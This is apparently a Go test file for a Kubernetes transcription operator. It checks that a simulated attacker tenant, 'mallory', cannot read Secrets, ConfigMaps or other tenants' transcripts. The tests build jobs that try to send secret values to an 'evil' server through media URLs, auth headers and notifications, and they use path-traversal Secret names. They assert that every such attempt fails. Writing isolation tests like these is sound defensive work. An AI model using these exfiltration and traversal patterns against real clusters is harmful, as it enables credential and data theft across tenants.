// Copyright The transcription-operator Authors.
// SPDX-License-Identifier: Apache-2.0

package isolation

import (
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/transcription-operator/transcription-operator/api/v1alpha1"
)

// TestTenantRights checks that the attacker is who these tests say she is: without it they would prove nothing.
func TestTenantRights(t *testing.T) {
	t.Parallel()
	job := newJob("rights", suspended)
	create(t, town.mallory, job)
	for what, try := range map[string]func() error{
		"read a Secret": func() error { return town.mallory.List(t.Context(), &corev1.SecretList{}, client.InNamespace(thief)) },
		"read a ConfigMap": func() error {
			return town.mallory.List(t.Context(), &corev1.ConfigMapList{}, client.InNamespace(thief))
		},
		"read an account": func() error {
			return town.mallory.List(t.Context(), &v1alpha1.SpeechmaticsAccountList{}, client.InNamespace(thief))
		},
		"read a cluster account": func() error { return town.mallory.List(t.Context(), &v1alpha1.ClusterSpeechmaticsAccountList{}) },
		"read another's job": func() error {
			return town.mallory.List(t.Context(), &v1alpha1.TranscriptionJobList{}, client.InNamespace(victim))
		},
		"create a job elsewhere": func() error { return town.mallory.Create(t.Context(), jobIn(victim, "rights")) },
		"write a status":         func() error { return town.mallory.Status().Update(t.Context(), job.DeepCopy()) },
		"label her namespace": func() error {
			return town.mallory.Patch(t.Context(), &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: thief}},
				client.RawPatch("application/merge-patch+json", []byte(`{"metadata":{"labels":{"speech":"closed"}}}`)))
		},
	} {
		if err := try(); !apierrors.IsForbidden(err) {
			t.Errorf("may mallory %s? %v", what, err)
		}
	}
}

// TestReadSecret names Secrets that are not meant for jobs in every field that takes a value from one, so that they are sent to an address of
// mallory's choice: as a URL, as headers, and as the media, which a notification with the contents "data" carries on.
func TestReadSecret(t *testing.T) {
	t.Parallel()
	const value = "top-secret-0123456789"
	data := map[string]string{"value": "https://" + value + ".example.com/", "headers": "X-Secret: " + value}
	for name, kind := range map[string]corev1.SecretType{"opaque": corev1.SecretTypeOpaque, "ssh": corev1.SecretTypeSSHAuth, "own-type": "transcription-operator.io/media.v2"} {
		if kind == corev1.SecretTypeSSHAuth {
			data[corev1.SSHAuthPrivateKey] = value
		}
		create(t, town.admin, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: thief, Name: name}, Type: kind, StringData: data})
	}
	from := func(name, key string) *v1alpha1.SecretSource {
		return &v1alpha1.SecretSource{SecretKeyRef: v1alpha1.ObjectKeyReference{Name: name, Key: key}}
	}
	address := ptr.To(town.evil.URL + "/secret")
	fields := map[string]func(*v1alpha1.TranscriptionJobSpec, string){
		"media-url": func(s *v1alpha1.TranscriptionJobSpec, secret string) {
			s.Media = v1alpha1.MediaSource{URLFrom: from(secret, "value")}
		},
		"media-headers": func(s *v1alpha1.TranscriptionJobSpec, secret string) {
			s.Media = v1alpha1.MediaSource{URL: address, AuthHeadersFrom: from(secret, "headers")}
		},
		"media-secret": func(s *v1alpha1.TranscriptionJobSpec, secret string) {
			s.Media = v1alpha1.MediaSource{Secret: &v1alpha1.ObjectKeyReference{Name: secret, Key: "value"}}
			s.Notifications = []v1alpha1.NotificationSpec{{URL: address, Contents: []v1alpha1.NotificationContent{"data"}}}
		},
		"notification-url": func(s *v1alpha1.TranscriptionJobSpec, secret string) {
			s.Notifications = []v1alpha1.NotificationSpec{{URLFrom: from(secret, "value")}}
		},
		"notification-headers": func(s *v1alpha1.TranscriptionJobSpec, secret string) {
			s.Notifications = []v1alpha1.NotificationSpec{{URL: address, AuthHeadersFrom: from(secret, "headers")}}
		},
	}
	for field, change := range fields {
		t.Run(field, func(t *testing.T) {
			t.Parallel()
			for _, secret := range []string{"opaque", "ssh", "own-type"} {
				job := newJob(field+"-"+secret, func(s *v1alpha1.TranscriptionJobSpec) {
					s.Transcripts.Formats = []v1alpha1.TranscriptFormat{v1alpha1.FormatJSONv2, v1alpha1.FormatText}
					change(s, secret)
				})
				create(t, town.mallory, job)
				message := awaitReason(t, job, v1alpha1.ReasonInvalidMedia, v1alpha1.ReasonInvalidNotification)
				if !strings.Contains(message, "Secret "+secret+" has the type") || !strings.Contains(message, "jobs may only use Secrets of the type "+v1alpha1.MediaSecretType) {
					t.Errorf("the message does not say why: %s", message)
				}
				wantNothingBought(t, job)
			}
			for _, secret := range []string{"../" + victim + "/speechmatics", victim + "/speechmatics", "speechmatics%2f..", "..", "a..b", "Opaque", "opaque\n"} {
				if err := town.mallory.Create(t.Context(), newJob("path", func(s *v1alpha1.TranscriptionJobSpec) { change(s, secret) })); !apierrors.IsInvalid(err) {
					t.Errorf("the name %q of a Secret: %v", secret, err)
				}
			}
		})
	}
	t.Cleanup(func() {
		if text := readable(t); strings.Contains(text, value) {
			t.Error("the secret is to be read in a job or an event")
		}
		if got := town.evil.got("/secret"); len(got) > 0 {
			t.Errorf("mallory's server was called: %v", got)
		}
	})
}

// TestReadTranscript makes another person's transcript in mallory's namespace, and a ConfigMap of somebody else's, the media of a job, whose
// data she has sent to herself; and the place of her own transcript.
func TestReadTranscript(t *testing.T) {
	t.Parallel()
	colleagues := jobIn(thief, "colleagues", func(s *v1alpha1.TranscriptionJobSpec) {
		s.Transcripts.Formats = []v1alpha1.TranscriptFormat{v1alpha1.FormatText}
	})
	create(t, town.admin, colleagues)
	awaitReason(t, colleagues, v1alpha1.ReasonComplete)
	before := transcriptOf(t, colleagues)
	create(t, town.admin, &corev1.ConfigMap{
		ObjectMeta: metav1.ObjectMeta{Namespace: thief, Name: "app"}, Data: map[string]string{"password": "correct horse battery"}, BinaryData: map[string][]byte{"utf8": []byte("h\u00fcnter2\n")},
	})
	ref := colleagues.Status.Transcripts[0].ConfigMapRef
	for name, source := range map[string]v1alpha1.ObjectKeyReference{
		"a-transcript": {Name: ref.Name, Key: ref.Key}, "a-text": {Name: "app", Key: "password"}, "a-binary-text": {Name: "app", Key: "utf8"},
	} {
		job := newJob(name, func(s *v1alpha1.TranscriptionJobSpec) {
			s.Media = v1alpha1.MediaSource{ConfigMap: &source}
			s.Notifications = []v1alpha1.NotificationSpec{{URL: ptr.To(town.evil.URL + "/transcript"), Contents: []v1alpha1.NotificationContent{"data"}}}
		})
		create(t, town.mallory, job)
		if message := awaitReason(t, job, v1alpha1.ReasonInvalidMedia); !strings.Contains(message, "which is no media") && !strings.Contains(message, "is no media") {
			t.Errorf("%s: the message does not say why: %s", name, message)
		}
		wantNothingBought(t, job)
	}
	for _, name := range []string{"colleagues", "app"} {
		job := newJob("over-"+name, func(s *v1alpha1.TranscriptionJobSpec) {
			s.Transcripts.ConfigMap = &v1alpha1.ConfigMapStore{Name: &name}
		})
		if name == "app" {
			create(t, town.admin, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: thief, Name: "app-txt"}, Data: map[string]string{"a": "b"}})
		}
		create(t, town.mallory, job)
		if message := awaitReason(t, job, v1alpha1.ReasonConfigMapConflict); !strings.Contains(message, thief+"/"+name+"-txt") {
			t.Errorf("the message does not name the ConfigMap: %s", message)
		}
		wantNothingBought(t, job)
	}
	if after := transcriptOf(t, colleagues); after != before {
		t.Error("the transcript was changed")
	}
	if got := town.evil.got("/transcript"); len(got) > 0 {
		t.Errorf("mallory's server was called: %v", got)
	}
}
